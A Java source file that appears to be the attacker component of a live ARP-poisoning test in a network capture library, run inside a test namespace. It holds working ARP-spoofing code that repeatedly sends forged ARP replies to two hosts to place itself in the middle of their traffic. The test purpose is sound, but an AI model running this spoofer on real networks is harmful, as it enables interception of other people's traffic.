package netlab.cli;

import netlab.capture.live.ArpFrames;
import netlab.capture.pcap4j.LiveCapture;
import netlab.capture.live.LiveOptions;
import netlab.capture.net.Ipv4Address;
import netlab.capture.net.MacAddress;

/**
 * The poisoning host of {@link ArpPoisoningLiveTest}, run inside its namespace: {@code ROUNDS} times, one
 * unsolicited unicast ARP reply to A saying B's IP is at this host's MAC and one to B saying A's IP is, with
 * the victims' real addresses in the target fields (arpspoof's man in the middle), {@code GAP_MS} apart.
 *
 * <p>Usage: {@code PoisonMain IFACE ROUNDS GAP_MS ATTACKER_MAC IP_A MAC_A IP_B MAC_B}
 */
final class PoisonMain {
    private PoisonMain() {
    }

    public static void main(String[] args) throws Exception {
        int rounds = Integer.parseInt(args[1]);
        long gap = Long.parseLong(args[2]);
        MacAddress m = MacAddress.parse(args[3]);
        Ipv4Address ipA = Ipv4Address.parse(args[4]);
        MacAddress macA = MacAddress.parse(args[5]);
        Ipv4Address ipB = Ipv4Address.parse(args[6]);
        MacAddress macB = MacAddress.parse(args[7]);
        byte[] toA = new byte[ArpFrames.LENGTH];
        byte[] toB = new byte[ArpFrames.LENGTH];
        ArpFrames.build(toA, macA, m, ipB, ArpFrames.REPLY, macA, ipA);
        ArpFrames.build(toB, macB, m, ipA, ArpFrames.REPLY, macB, ipB);
        try (LiveCapture c = LiveCapture.open(LiveOptions.defaults(args[0]))) {
            for (int i = 0; i < rounds; i++) {
                c.send(toA, toA.length);
                c.send(toB, toB.length);
                Thread.sleep(gap);
            }
        }
    }
}
